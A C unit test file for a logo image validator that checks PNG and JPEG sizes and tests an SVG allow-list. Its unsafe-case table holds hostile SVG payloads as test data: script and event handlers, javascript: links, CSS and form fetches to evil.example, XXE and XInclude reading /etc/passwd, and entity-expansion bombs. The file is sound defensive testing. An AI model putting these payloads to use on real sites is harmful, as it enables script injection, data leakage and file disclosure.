/* test_image.c: unit tests for model/image (the logo checks): PNG and
 * JPEG sizes, and the SVG allow-list: plain logos pass, and every hostile
 * shape we know of (script, handlers, XHTML meta refresh and forms,
 * external hrefs, CSS that fetches, DOCTYPE and entities, processing
 * instructions, other namespaces) is refused, saying what was refused. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "i18n/i18n.h"
#include "model/image.h"

#define SVG_OPEN "<svg xmlns=\"http://www.w3.org/2000/svg\">"
#define SVG_OPEN_XLINK                                                                             \
    "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\">"

static image_verdict check(const char *s)
{
    image_verdict v;
    bool ok = image_check(s, strlen(s), &v);
    assert_int_equal(ok, v.why == 0);
    return v;
}

static size_t png(unsigned char *p, uint32_t w, uint32_t h)
{
    static const unsigned char head[] = {0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n',
                                         0,    0,   0,   13,  'I',  'H',  'D',  'R'};
    memcpy(p, head, sizeof head);
    const unsigned char dims[8] = {w >> 24, w >> 16, w >> 8, w, h >> 24, h >> 16, h >> 8, h};
    memcpy(p + 16, dims, 8);
    static const unsigned char tail[] = {8, 6, 0, 0, 0,   0x11, 0x22, 0x33, 0x44, /* CRC */
                                         0, 0, 0, 0, 'I', 'E',  'N',  'D',  0xAE, 0x42, 0x60, 0x82};
    memcpy(p + 24, tail, sizeof tail);
    return 24 + sizeof tail;
}

static void test_raster(void **state)
{
    (void)state;
    image_verdict v;
    unsigned char p[64];
    size_t n = png(p, 120, 80);
    assert_true(image_check(p, n, &v));
    assert_string_equal(v.content_type, "image/png");
    n = png(p, 4097, 10);
    assert_false(image_check(p, n, &v));
    assert_int_equal(v.why, MSG_LOGO_DIMENSIONS);
    assert_null(v.content_type);
    assert_false(image_check(p, 20, &v));
    assert_int_equal(v.why, MSG_LOGO_FORMAT);

    static const unsigned char jpeg[] = {
        0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10, 'J',  'F',  'I',  'F',  0, 1,    1,    0,
        0,    1,    0,    1,    0,    0,    0xFF, 0xC0, 0x00, 0x11, 8, 0x00, 0x40, 0x00,
        0x80, 3,    1,    0x22, 0,    2,    0x11, 1,    3,    0x11, 1, 0xFF, 0xD9};
    assert_true(image_check(jpeg, sizeof jpeg, &v));
    assert_string_equal(v.content_type, "image/jpeg");
    assert_false(image_check(jpeg, 20, &v));
    assert_int_equal(v.why, MSG_LOGO_FORMAT);

    assert_false(image_check("GIF89a......", 12, &v));
    assert_int_equal(v.why, MSG_LOGO_FORMAT);
    char *huge = malloc(IMAGE_MAX + 1);
    memset(huge, ' ', IMAGE_MAX + 1);
    assert_false(image_check(huge, IMAGE_MAX + 1, &v));
    assert_int_equal(v.why, MSG_LOGO_TOO_BIG);
    free(huge);
}

static void test_svg_accepted(void **state)
{
    (void)state;
    static const char *const good[] = {
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!-- logo -->\n"
        "<svg xmlns=\"http://www.w3.org/2000/svg\""
        " xmlns:xlink=\"http://www.w3.org/1999/xlink\" viewBox=\"0 0 10 10\">"
        "<title>Ниш</title><desc>a logo</desc>"
        "<defs><linearGradient id=\"g\"><stop offset=\"0\" stop-color=\"#fff\"/>"
        "</linearGradient><radialGradient id=\"h\" href=\"#g\"/>"
        "<circle id=\"c\" r=\"4\"/><clipPath id=\"k\"><rect width=\"5\" height=\"5\"/></clipPath>"
        "<mask id=\"m\"><rect width=\"5\" height=\"5\" fill=\"white\"/></mask>"
        "<filter id=\"f\"><feGaussianBlur stdDeviation=\"1\"/></filter></defs>"
        "<style><![CDATA[.a{fill:url(#g)} .b{stroke:url( '#h' )}]]></style>"
        "<g clip-path=\"url(#k)\" mask=\"url(#m)\" filter=\"url(#f)\" transform=\"scale(2)\">"
        "<use xlink:href=\"#c\" class=\"a\"/><path d=\"M0 0L10 10z\" style=\"fill:#0b3d91\"/>"
        "</g><text x=\"1\" y=\"9\" xml:space=\"preserve\">Ниш &amp; co<tspan>!</tspan></text>"
        "</svg>\n",
        "\xEF\xBB\xBF  " SVG_OPEN "<rect width=\"10\" height=\"10\"/></svg>",
        SVG_OPEN "<symbol id=\"s\"><polygon points=\"0,0 1,1 1,0\"/></symbol>"
                 "<use href=\"#s\"/></svg>",
    };
    for (size_t i = 0; i < sizeof good / sizeof good[0]; i++) {
        image_verdict v = check(good[i]);
        if (v.why)
            fail_msg("refused (%d, what %d, \"%s\"): %s", v.why, (int)v.what, v.name, good[i]);
        assert_string_equal(v.content_type, "image/svg+xml");
    }
}

static void test_svg_unsafe(void **state)
{
    (void)state;
    static const struct {
        const char *svg;
        image_what what;
        const char *name;
    } cases[] = {
        /* the two that opened this: XHTML in an SVG runs in the browser */
        {SVG_OPEN "<meta xmlns=\"http://www.w3.org/1999/xhtml\" http-equiv=\"refresh\""
                  " content=\"0;url=https://evil.example/\"/></svg>",
         IMAGE_WHAT_ELEMENT, "meta"},
        {"<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:h=\"http://www.w3.org/1999/xhtml\">"
         "<h:form action=\"https://evil.example/\"><h:input name=\"p\"/></h:form></svg>",
         IMAGE_WHAT_ELEMENT, "h:form"},
        {SVG_OPEN "<script>alert(1)</script></svg>", IMAGE_WHAT_ELEMENT, "script"},
        /* CSS escapes in presentation attributes spell url( to outside
         * (found by the attacker's review: Chromium fetched them) */
        {SVG_OPEN
         "<rect width=\"1\" height=\"1\" fill=\"\\75 rl(http://evil.example/a#b)\"/></svg>",
         IMAGE_WHAT_ATTRIBUTE, "fill"},
        {SVG_OPEN
         "<rect width=\"1\" height=\"1\" filter=\"\\75rl(http://evil.example/#f)\"/></svg>",
         IMAGE_WHAT_ATTRIBUTE, "filter"},
        {SVG_OPEN "<rect width=\"1\" height=\"1\" mask=\"\\55 RL(//evil.example/#m)\"/></svg>",
         IMAGE_WHAT_ATTRIBUTE, "mask"},
        {SVG_OPEN "<SCRIPT>alert(1)</SCRIPT></svg>", IMAGE_WHAT_ELEMENT, "SCRIPT"},
        {"<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:x=\"http://www.w3.org/2000/svg\">"
         "<x:script>alert(1)</x:script></svg>",
         IMAGE_WHAT_ELEMENT, "x:script"},
        {"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"></svg>",
         IMAGE_WHAT_ATTRIBUTE, "onload"},
        {SVG_OPEN "<rect ONCLICK='x()'/></svg>", IMAGE_WHAT_ATTRIBUTE, "ONCLICK"},
        {SVG_OPEN "<foreignObject><div/></foreignObject></svg>", IMAGE_WHAT_ELEMENT,
         "foreignObject"},
        {SVG_OPEN "<a href=\"javascript:alert(1)\"><rect/></a></svg>", IMAGE_WHAT_ELEMENT, "a"},
        {SVG_OPEN_XLINK "<use xlink:href=\"http://evil.example/x.svg#a\"/></svg>",
         IMAGE_WHAT_ATTRIBUTE, "xlink:href"},
        {SVG_OPEN "<use href=\"other.svg#x\"/></svg>", IMAGE_WHAT_ATTRIBUTE, "href"},
        {SVG_OPEN "<use href=\"data:image/svg+xml,&lt;svg/&gt;#x\"/></svg>", IMAGE_WHAT_ATTRIBUTE,
         "href"},
        {SVG_OPEN "<rect href=\"#x\"/></svg>", IMAGE_WHAT_ATTRIBUTE, "href"},
        {SVG_OPEN "<image href=\"data:image/png;base64,AAAA\"/></svg>", IMAGE_WHAT_ELEMENT,
         "image"},
        {"<!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>" SVG_OPEN "&x;</svg>",
         IMAGE_WHAT_DOCTYPE, "DOCTYPE"},
        {"<!DOCTYPE svg [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">"
         "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;\">]>" SVG_OPEN "<text>&c;</text></svg>",
         IMAGE_WHAT_DOCTYPE, "DOCTYPE"},
        {"<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" "
         "\"http://127.0.0.1:9/svg11.dtd\">" SVG_OPEN "</svg>",
         IMAGE_WHAT_DOCTYPE, "DOCTYPE"},
        {"<?xml-stylesheet href=\"http://evil.example/x.css\"?>" SVG_OPEN "</svg>", IMAGE_WHAT_PI,
         "xml-stylesheet"},
        {SVG_OPEN "<g><?foo bar?></g></svg>", IMAGE_WHAT_PI, "foo"},
        {SVG_OPEN "<style>@import url(http://evil.example/x.css);</style></svg>",
         IMAGE_WHAT_ELEMENT, "style"},
        {SVG_OPEN "<style>@import 'http://evil.example/x.css';</style></svg>", IMAGE_WHAT_ELEMENT,
         "style"},
        {SVG_OPEN "<style>.a{fill:\\75 rl(http://evil.example/)}</style></svg>", IMAGE_WHAT_ELEMENT,
         "style"},
        {SVG_OPEN "<style>.a{fill:&#117;rl(http://evil.example/)}</style></svg>",
         IMAGE_WHAT_ELEMENT, "style"},
        {SVG_OPEN "<style>.a{background:image-set('https://evil.example/a.png' 1x)}</style></svg>",
         IMAGE_WHAT_ELEMENT, "style"},
        {SVG_OPEN "<rect style=\"fill:url(http://evil.example/#g)\"/></svg>", IMAGE_WHAT_ATTRIBUTE,
         "style"},
        {SVG_OPEN "<rect fill=\"url('https://evil.example/#g')\"/></svg>", IMAGE_WHAT_ATTRIBUTE,
         "fill"},
        {SVG_OPEN "<rect fill=\"&#117;rl(https://evil.example/#g)\"/></svg>", IMAGE_WHAT_ATTRIBUTE,
         "fill"},
        {SVG_OPEN "<set attributeName=\"href\" to=\"https://evil.example\"/></svg>",
         IMAGE_WHAT_ELEMENT, "set"},
        {SVG_OPEN "<animate attributeName=\"href\" values=\"javascript:alert(1)\"/></svg>",
         IMAGE_WHAT_ELEMENT, "animate"},
        {SVG_OPEN "<iframe src=\"https://evil.example\"/></svg>", IMAGE_WHAT_ELEMENT, "iframe"},
        {SVG_OPEN "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"/etc/passwd\"/>"
                  "</svg>",
         IMAGE_WHAT_ELEMENT, "xi:include"},
        {SVG_OPEN "<rect xml:base=\"http://evil.example/\"/></svg>", IMAGE_WHAT_ATTRIBUTE,
         "xml:base"},
        {SVG_OPEN "<rect xmlns=\"\"/></svg>", IMAGE_WHAT_ELEMENT, "rect"},
        {"<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:i=\"http://ns.adobe.com/x\">"
         "<rect i:knockout=\"Off\"/></svg>",
         IMAGE_WHAT_ATTRIBUTE, "i:knockout"},
        {SVG_OPEN "<rect requiredExtensions=\"http://www.w3.org/1999/xhtml\"/></svg>",
         IMAGE_WHAT_ATTRIBUTE, "requiredExtensions"},
        {SVG_OPEN "<feImage href=\"https://evil.example/a.png\"/></svg>", IMAGE_WHAT_ELEMENT,
         "feImage"},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        image_verdict v = check(cases[i].svg);
        if (v.why != MSG_LOGO_SVG_UNSAFE || v.what != cases[i].what ||
            strcmp(v.name, cases[i].name) != 0)
            fail_msg("case %zu: why %d what %d \"%s\", want unsafe %d \"%s\": %s", i, v.why,
                     (int)v.what, v.name, (int)cases[i].what, cases[i].name, cases[i].svg);
        assert_null(v.content_type);
    }
}

static void test_svg_invalid(void **state)
{
    (void)state;
    static const char *const broken[] = {
        SVG_OPEN "<g></svg>",
        SVG_OPEN "<rect width=10/></svg>",
        SVG_OPEN "</svg><svg></svg>",
        SVG_OPEN,
        "  " SVG_OPEN "</svg> trailing",
        SVG_OPEN "&x;</svg>",
        SVG_OPEN "\xC3\x28</svg>",
        "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>" SVG_OPEN "</svg>",
        "<svg></svg>", /* no namespace: not SVG */
        "<html xmlns=\"http://www.w3.org/1999/xhtml\"><body/></html>",
        "<svg xmlns=\"http://www.w3.org/1999/xhtml\"></svg>",
    };
    for (size_t i = 0; i < sizeof broken / sizeof broken[0]; i++) {
        image_verdict v = check(broken[i]);
        if (v.why != MSG_LOGO_SVG_INVALID)
            fail_msg("not refused as invalid (%d): %s", v.why, broken[i]);
    }
    image_verdict v = check("<html xmlns=\"http://www.w3.org/1999/xhtml\"><body/></html>");
    assert_int_equal(v.what, IMAGE_WHAT_ROOT);
    assert_string_equal(v.name, "html");
}

/* A refused name is cut on a character boundary. */
static void test_svg_long_name(void **state)
{
    (void)state;
    char s[400];
    char name[200] = "x";
    for (int i = 0; i < 60; i++)
        strcat(name, "ш"); /* 2 bytes each */
    snprintf(s, sizeof s, SVG_OPEN "<%s/></svg>", name);
    image_verdict v = check(s);
    assert_int_equal(v.why, MSG_LOGO_SVG_UNSAFE);
    assert_int_equal(strlen(v.name), 63);
    assert_memory_equal(v.name, name, 63);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_raster),        cmocka_unit_test(test_svg_accepted),
        cmocka_unit_test(test_svg_unsafe),    cmocka_unit_test(test_svg_invalid),
        cmocka_unit_test(test_svg_long_name),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
